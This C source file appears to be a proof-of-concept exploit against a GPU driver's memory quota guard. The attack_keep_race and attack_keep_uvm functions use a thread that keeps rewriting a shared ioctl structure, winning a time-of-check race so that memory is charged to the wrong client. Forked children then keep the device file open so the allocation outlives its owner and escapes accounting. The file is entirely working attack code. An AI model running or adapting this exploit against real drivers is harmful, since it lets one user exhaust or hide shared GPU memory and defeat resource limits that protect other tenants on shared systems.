/* Memory won by a race on a client; its file is open in processes that made no call, and that the guard would not end for it. */
#include "attack.h"

/* Client, parent, object and class, written at once. */
typedef uint32_t head __attribute__ ((vector_size (16)));

static _Alignas (16) volatile struct alloc call;
static _Alignas (16) uint32_t heads[2][4];

static void *flipping (void *argument)
{
    (void) argument;
    for (unsigned i = 0;; i++)
        *(volatile head *) (uintptr_t) &call = *(const volatile head *) heads[i & 1];
    return NULL;
}

/* One piece of so many bytes on the client `real`, by a call that is looked at as that of a device of the client `named`. */
static void win (int file, const struct bed *named, const struct bed *real, uint64_t size)
{
    struct memory params = memory_of (size);
    uint32_t handle = 0x5f000000;
    pthread_t thread;

    call = (struct alloc) { .params = (uintptr_t) &params, .status = 0xffff };
    for (unsigned i = 0; i < 2; i++) {
        const struct bed *bed = i == 0 ? named : real;

        memcpy (heads[i], (uint32_t[]) { bed->client, bed->device, handle, i == 0 ? 0x80 : 0x40 }, sizeof (heads[i]));
    }
    memcpy ((void *) (uintptr_t) &call, heads[0], sizeof (heads[0]));
    pthread_create (&thread, NULL, flipping, NULL);
    do {
        call.status = 0xffff;
        heads[0][2] = heads[1][2] = ++handle;
    } while (ioctl (file, REQUEST (0x2b, sizeof (call)), (void *) (uintptr_t) &call) != 0 || call.status != 0);
}

/* keep-race MIB IS-ENDED IS-NAMED: a process makes two clients on one file and uses the quota up, and ends if that is said. A child of its wins a piece of
 * so many MiB on the second one, by a call that names that one, or the first; another child, which makes no call, has the file for good. */
void attack_keep_race (int argc, char **argv)
{
    uint64_t size = (uint64_t) (argc > 0 ? atoi (argv[0]) : 2048) * MIB;
    bool is_ended = argc > 1 && atoi (argv[1]), is_named = argc > 2 && atoi (argv[2]);
    int result[2], life[2];
    char won = 0;

    if (pipe (result) != 0 || pipe (life) != 0)
        exit (4);
    if (fork () == 0) {
        struct bed first = bed_open (), second = first;
        pid_t maker = getpid ();
        uint32_t handle;

        close (life[1]);
        if (bed_begin (&second) != 0)
            _exit (5);
        while (bed_memory (&second, &handle, 64 * MIB) == 0)
            continue;
        if (fork () == 0) {
            close (result[1]);
            (void) !read (life[0], &won, 1);
            _exit (0);
        }
        if (fork () == 0) {
            while (is_ended && getppid () == maker)
                usleep (1000);
            usleep (500000); /* until the guard knows that it has ended */
            win (first.file, is_named ? &second : &first, &second, size);
            _exit (write (result[1], "w", 1) != 1);
        }
        if (!is_ended)
            (void) !read (life[0], &won, 1);
        _exit (0);
    }
    close (result[1]);
    say ("won", read (result[0], &won, 1) == 1);
    hold ();
}

/* keep-uvm MIB: a process uses the quota up. Another one wins a piece of so many MiB, which UVM maps; a third one, which makes no call, has UVM's file and no
 * other one, so that no answer of the driver's shows the piece when the second one has ended. */
void attack_keep_uvm (int argc, char **argv)
{
    uint64_t size = (uint64_t) (argc > 0 ? atoi (argv[0]) : 2048) * MIB;
    int result[2], life[2];
    uint32_t handle;
    char mapped = 0;

    if (pipe (result) != 0 || pipe (life) != 0)
        exit (4);
    if (fork () == 0) {
        struct bed bed = bed_open ();

        close (life[1]);
        while (bed_memory (&bed, &handle, 64 * MIB) == 0)
            continue;
        (void) !write (result[1], "f", 1);
        (void) !read (life[0], &mapped, 1);
        _exit (0);
    }
    (void) !read (result[0], &mapped, 1);
    if (fork () == 0) {
        struct bed bed = bed_open ();
        struct uvm uvm = uvm_begin (&bed, false);

        close (life[1]);
        if (fork () == 0) {
            close (bed.file);
            close (bed.node);
            (void) !read (life[0], &mapped, 1);
            _exit (0);
        }
        win (bed.file, &bed, &bed, size);
        mapped = uvm_map (&uvm, &bed, 0, call.object, size) == 0 ? 'm' : 'n';
        (void) !write (result[1], &mapped, 1);
        (void) !read (life[0], &mapped, 1);
        _exit (0);
    }
    close (result[1]);
    say ("mapped", read (result[0], &mapped, 1) == 1 && mapped == 'm');
    hold ();
}
